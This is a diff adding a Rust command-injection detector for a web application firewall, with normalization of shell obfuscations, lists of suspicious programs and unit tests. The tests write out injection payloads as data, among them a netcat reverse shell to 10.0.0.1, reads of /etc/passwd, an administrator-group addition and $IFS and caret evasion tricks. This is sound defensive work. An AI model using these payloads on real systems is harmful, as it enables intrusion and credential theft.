@@ -1,0 +1,297 @@
+//! `@detectCmdi` (wafer extension): shell command injection, by tokenizing the value the way
+//! a POSIX shell or `cmd.exe` would and looking for a known program in command position.
+//!
+//! Normalization first undoes the obfuscations a shell ignores: empty quotes (`c''at`,
+//! `c""at`), quotes around a word piece (`c'a't`), backslashes before ordinary characters
+//! (`c\at`), `$IFS`/`${IFS}` and `$IFS$9`-style separators, empty expansions (`$@`, `$*`,
+//! `$1`..`$9`) and the caret escapes of `cmd.exe` (`w^h^o^a^m^i`).
+//!
+//! The grammar: a value is a sequence of words and operators. Operators are `;`, `|`, `||`,
+//! `&`, `&&`, newline, `` ` `` and `$(`/`)` and `<(`, `>(`. A word is in command position at
+//! the start of the value or after an operator. The value is an injection when a program
+//! of [`PROGRAMS`] (its base name: `/usr/bin/id` is `id`) is in command position and
+//! - it follows a separator or substitution (not at the start of the value), and is followed
+//!   by the end, another operator, or an argument that looks like a shell argument (an
+//!   option `-x`, a path, a variable, a number, an IP, a redirection), or is a program no
+//!   English text contains ([`UNAMBIGUOUS`]); or
+//! - it is at the start of the value, given as an absolute path (`/bin/cat /etc/passwd`), or
+//!   is unambiguous and followed by a shell argument (`nc -e /bin/sh 10.0.0.1 4444`).
+//!
+//! Also an injection on its own: a `${...}` expansion with a substring or default operator
+//! (`${x:0:1}`, `${PATH:0:1}`), and `$(` or a back-quoted word that holds a program.
+
+/// Programs that commonly follow an injection.
+const PROGRAMS: &[&str] = &[
+    "id", "whoami", "uname", "cat", "ls", "dir", "pwd", "echo", "ping", "sleep", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "dash", "csh", "tcsh", "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "nslookup", "dig", "host", "ifconfig", "ipconfig", "netstat", "ps", "kill", "killall", "chmod", "chown", "rm", "mv", "cp", "touch", "mkdir", "head", "tail", "more", "less", "grep", "find", "awk", "sed", "xargs", "env", "printenv", "export", "set", "type", "systeminfo", "tasklist", "net", "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "telnet", "ssh", "scp", "ftp", "tftp", "base64", "xxd", "od", "hexdump", "uptime", "hostname", "w", "who", "last", "passwd", "sudo", "su", "crontab", "nohup", "timeout", "eval", "exec", "sort", "uniq", "wc", "tac", "nl", "rev", "vi", "vim", "nano", "dd", "tar", "zip", "unzip", "gzip", "openssl", "socat", "mkfifo", "mknod", "useradd", "usermod", "shutdown", "reboot", "halt", "sysctl", "dmesg", "lsof", "arp", "route", "traceroute", "tracert", "nmap", "java", "gcc", "cc", "make", "mail", "sendmail", "file", "stat", "readlink", "realpath", "basename", "dirname", "true", "false", "test", "expr", "seq", "yes", "time", "date", "cal", "df", "du", "free", "top", "mount", "lsblk", "fdisk", "reg", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "start", "call", "copy", "del", "ver", "vol", "query", "schtasks", "sc", "which", "sysinfo", "whereis", "locate", "getent", "net.exe", "nbtstat", "nltest", "dsquery", "icacls", "attrib", "findstr", "more.com", "dig", "id.exe",
+];
+
+/// Programs no English sentence contains as a word: their presence after a separator is
+/// enough.
+const UNAMBIGUOUS: &[&str] = &[
+    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "nslookup", "systeminfo", "tasklist", "powershell", "pwsh", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "xxd", "hexdump", "printenv", "crontab", "nohup", "socat", "mkfifo", "useradd", "usermod", "sysctl", "dmesg", "lsof", "nmap", "sendmail", "readlink", "lsblk", "fdisk", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "schtasks", "python", "python2", "python3", "perl", "php", "chmod", "chown", "killall", "tftp", "openssl", "traceroute", "tracert", "ls", "pwd", "id", "dir", "cmd", "ping", "uptime", "hostname", "passwd", "sudo", "env", "xargs", "awk", "sed", "grep", "which", "sysinfo", "whereis", "getent", "nbtstat", "nltest", "dsquery", "icacls", "findstr",
+];
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Tok {
+    Word(String),
+    /// `;`, `|`, `&`, newline, `&&`, `||`.
+    Sep,
+    /// `` ` ``, `$(`, `<(`, `>(`: what follows is a command.
+    Subst,
+    Close,
+    Redirect,
+}
+
+/// Undoes the obfuscations a shell ignores.
+fn normalize(v: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(v.len());
+    let mut i = 0;
+    while let Some(&b) = v.get(i) {
+        match b {
+            // Empty quotes, and quotes glued to letters on both sides (`c'a't`).
+            b'\'' | b'"' => {
+                let prev_word = out.last().is_some_and(|c: &u8| c.is_ascii_alphanumeric() || *c == b'/');
+                let next_word = v.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'\'' || *c == b'"');
+                if v.get(i + 1) == Some(&b) || (prev_word && next_word) {
+                    i += if v.get(i + 1) == Some(&b) { 2 } else { 1 };
+                    continue;
+                }
+                out.push(b);
+            }
+            // `\n`, `\r` and `\t` written out: line breaks and blanks once decoded.
+            b'\\' if matches!(v.get(i + 1), Some(b'n' | b'r')) => {
+                out.push(b'\n');
+                i += 2;
+                continue;
+            }
+            b'\\' if v.get(i + 1) == Some(&b't') => {
+                out.push(b' ');
+                i += 2;
+                continue;
+            }
+            b'\\' => match v.get(i + 1) {
+                Some(c) if c.is_ascii_alphanumeric() || *c == b'/' => {
+                    i += 1;
+                    continue;
+                }
+                _ => out.push(b),
+            },
+            b'^' if out.last().is_some_and(u8::is_ascii_alphanumeric) && v.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => {}
+            b'$' => {
+                let rest = v.get(i + 1..).unwrap_or_default();
+                if rest.starts_with(b"{IFS}") {
+                    out.push(b' ');
+                    i += 6;
+                    continue;
+                }
+                if rest.starts_with(b"IFS") {
+                    out.push(b' ');
+                    i += 4;
+                    // `$IFS$9`
+                    if v.get(i) == Some(&b'$') && v.get(i + 1).is_some_and(u8::is_ascii_digit) {
+                        i += 2;
+                    }
+                    continue;
+                }
+                if matches!(rest.first(), Some(b'@' | b'*' | b'1'..=b'9')) && out.last().is_some_and(u8::is_ascii_alphanumeric) {
+                    i += 2;
+                    continue;
+                }
+                out.push(b);
+            }
+            _ => out.push(b),
+        }
+        i += 1;
+    }
+    out
+}
+
+fn tokenize(v: &[u8]) -> Vec<Tok> {
+    let s = String::from_utf8_lossy(v);
+    let b = s.as_bytes();
+    let mut toks = Vec::new();
+    let mut i = 0;
+    let mut word = String::new();
+    let flush = |word: &mut String, toks: &mut Vec<Tok>| {
+        if !word.is_empty() {
+            toks.push(Tok::Word(std::mem::take(word)));
+        }
+    };
+    while let Some(&c) = b.get(i) {
+        match c {
+            b';' | b'|' | b'&' | b'\n' | b'\r' => {
+                flush(&mut word, &mut toks);
+                if toks.last() != Some(&Tok::Sep) {
+                    toks.push(Tok::Sep);
+                }
+            }
+            b'`' => {
+                flush(&mut word, &mut toks);
+                toks.push(Tok::Subst);
+            }
+            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => {
+                flush(&mut word, &mut toks);
+                toks.push(Tok::Subst);
+                i += 1;
+            }
+            b'(' | b'{' => {
+                flush(&mut word, &mut toks);
+                toks.push(Tok::Subst);
+            }
+            b')' | b'}' => {
+                flush(&mut word, &mut toks);
+                toks.push(Tok::Close);
+            }
+            b'<' | b'>' => {
+                flush(&mut word, &mut toks);
+                toks.push(Tok::Redirect);
+            }
+            b' ' | b'\t' | b',' | b'\'' | b'"' => flush(&mut word, &mut toks),
+            _ => {
+                if let Some(ch) = s.get(i..).and_then(|r| r.chars().next()) {
+                    word.push(ch);
+                    i += ch.len_utf8();
+                    continue;
+                }
+            }
+        }
+        i += 1;
+    }
+    flush(&mut word, &mut toks);
+    toks
+}
+
+/// The program a word names (`/usr/bin/id` -> `id`, `ID.EXE` -> `id.exe`), when known.
+fn program(word: &str) -> Option<(String, bool)> {
+    let lower = word.to_ascii_lowercase();
+    let absolute = lower.starts_with('/') || lower.get(1..3) == Some(":\\");
+    let base = lower.rsplit(['/', '\\']).next().unwrap_or(&lower).to_string();
+    let name = base.strip_suffix(".exe").unwrap_or(&base);
+    if PROGRAMS.contains(&name) || PROGRAMS.contains(&base.as_str()) {
+        if absolute && !(lower.contains("bin/") || lower.contains("system32")) {
+            return None;
+        }
+        Some((name.to_string(), absolute))
+    } else {
+        None
+    }
+}
+
+/// Whether a word reads as a shell argument rather than as English.
+fn shell_arg(word: &str) -> bool {
+    let w = word.as_bytes();
+    match w.first() {
+        Some(b'-') => w.get(1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-'),
+        Some(b'/' | b'$' | b'~' | b'.' | b'%') => true,
+        Some(c) if c.is_ascii_digit() => true,
+        _ => word.contains('/') || word.contains('\\') || word.contains('='),
+    }
+}
+
+/// `net view`, `net user` ...: the Windows `net` command's subcommands.
+fn net_subcommand(name: &str, arg: &str) -> bool {
+    name == "net" && matches!(arg, "view" | "user" | "users" | "localgroup" | "group" | "share" | "use" | "session" | "accounts")
+}
+
+/// The injection found, as `program` (or the construct's name).
+pub fn detect_cmdi(value: &[u8]) -> Option<String> {
+    if value.len() < 2 {
+        return None;
+    }
+    let norm = normalize(value);
+    let ns = String::from_utf8_lossy(&norm);
+    // `${x:0:1}`-style expansions and `${PATH%%u*}`.
+    if let Some(p) = ns.find("${") {
+        let inner: String = ns.get(p + 2..).unwrap_or_default().chars().take_while(|&c| c != '}').collect();
+        if inner.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_') && (inner.contains(':') || inner.contains('%') || inner.contains('#') || inner.contains("//")) {
+            return Some("${expansion}".into());
+        }
+    }
+    let toks = tokenize(&norm);
+    for (i, t) in toks.iter().enumerate() {
+        let Tok::Word(w) = t else { continue };
+        let before = if i == 0 { None } else { toks.get(i - 1) };
+        let at_start = before.is_none();
+        let after_sep = matches!(before, Some(Tok::Sep | Tok::Subst));
+        if !at_start && !after_sep {
+            continue;
+        }
+        let Some((name, absolute)) = program(w) else { continue };
+        let next = toks.get(i + 1);
+        let unambiguous = UNAMBIGUOUS.contains(&name.as_str());
+        let arg_like = match next {
+            None => true,
+            Some(Tok::Sep | Tok::Subst | Tok::Close | Tok::Redirect) => true,
+            Some(Tok::Word(a)) => shell_arg(a),
+        };
+        let in_subst = matches!(before, Some(Tok::Subst)) && matches!(toks.get(i + 1..).and_then(|r| r.iter().find(|t| !matches!(t, Tok::Word(_)))), Some(Tok::Close | Tok::Subst));
+        let net = matches!(next, Some(Tok::Word(a)) if net_subcommand(&name, &a.to_ascii_lowercase()));
+        if after_sep && net {
+            return Some(name);
+        }
+        if after_sep {
+            // `;` and `|` before a program and nothing English after it.
+            if in_subst || arg_like || (unambiguous && !matches!(next, Some(Tok::Word(a)) if a.chars().all(|c| c.is_alphabetic()) && a.len() > 3)) {
+                if name.len() <= 2 && !absolute && !arg_like && !in_subst {
+                    continue;
+                }
+                return Some(name);
+            }
+        } else if absolute && (next.is_none() || arg_like) {
+            return Some(name);
+        } else if unambiguous && matches!(next, Some(Tok::Word(a)) if shell_arg(a)) && name.len() > 2 {
+            return Some(name);
+        } else if let Some(Tok::Word(a)) = next {
+            // At the start: a program with an argument no text has (`sleep 10`, `which nc`,
+            // `type C:\\boot.ini`, `net view`).
+            let a_l = a.to_ascii_lowercase();
+            let strong = a_l.starts_with('/') && a_l.len() > 1 || a_l.starts_with('%') && a_l.ends_with('%') || (a_l.get(1..2) == Some(":") && a_l.starts_with(|c: char| c.is_ascii_alphabetic()) && a_l.len() > 2) || (a_l.starts_with('-') && a_l.len() > 1 && a_l.len() <= 4 && a_l.bytes().skip(1).all(|c| c.is_ascii_alphabetic()) && toks.len() <= 4);
+            let number = a_l.bytes().all(|c| c.is_ascii_digit()) && matches!(name.as_str(), "sleep" | "ping" | "timeout") && toks.len() == 2;
+            let prog_arg = matches!(name.as_str(), "which" | "whereis" | "type" | "locate") && program(a).is_some() && toks.len() == 2;
+            let net = net_subcommand(&name, &a_l);
+            if strong || number || prog_arg || net || (name == "type" && a_l.contains('%')) {
+                return Some(name);
+            }
+        } else if toks.len() == 1 && matches!(name.as_str(), "whoami" | "ifconfig" | "ipconfig" | "systeminfo" | "tasklist" | "netstat" | "uname" | "printenv" | "sysinfo") {
+            return Some(name);
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::detect_cmdi;
+
+    fn hit(s: &str) -> bool {
+        detect_cmdi(s.as_bytes()).is_some()
+    }
+
+    #[test]
+    fn separators_before_programs() {
+        for s in [";id", "|id|", "a;id;", "127.0.0.1; cat /etc/passwd", "x && whoami", "foo || uname -a", "1\nid", "x|nc -e /bin/sh 10.0.0.1 4444", "& ping -c 10 127.0.0.1 &", ";sleep 5;", "a; ls -la", ";id\\n", "| net view", "&& net localgroup Administrators hacker /ADD", "sleep 10", "which nc", "type C:\\boot.ini", "whoami", "ls -la"] {
+            assert!(hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn substitutions_and_absolute_paths() {
+        for s in ["`id`", "$(whoami)", "x=$(cat /etc/passwd)", "/bin/cat /etc/passwd", "/usr/bin/id", "<(id)", "{cat,/etc/passwd}"] {
+            assert!(hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn obfuscations() {
+        for s in [";c''at /etc/passwd", ";c\\at /etc/passwd", ";cat$IFS/etc/passwd", ";cat${IFS}/etc/passwd", ";w'h'o'am'i", ";who$@ami", "&w^h^o^a^m^i", "${PATH:0:1}", "; c\"\"at /etc/passwd"] {
+            assert!(hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn english_and_code_are_not_commands() {
+        for s in ["Tom & Jerry", "dogs; cat lovers unite", "rock & roll", "I love my cat", "salt & pepper; more later", "id", "ls", "echo", "a | b", "Q&A: time to shine", "Fish & Chips", "cats, dogs; sleep well tonight", "price: $5", "function(){ return a|b; }", "see ${name}", "Ben & Jerry's", "R&D team", "the id field", "/home/user/docs", "top -10 songs", "net 30 days", "type of hat", "sleep well", "which one?", "net worth", "date 2024-05-01"] {
+            assert!(!hit(s), "{s}");
+        }
+    }
+}
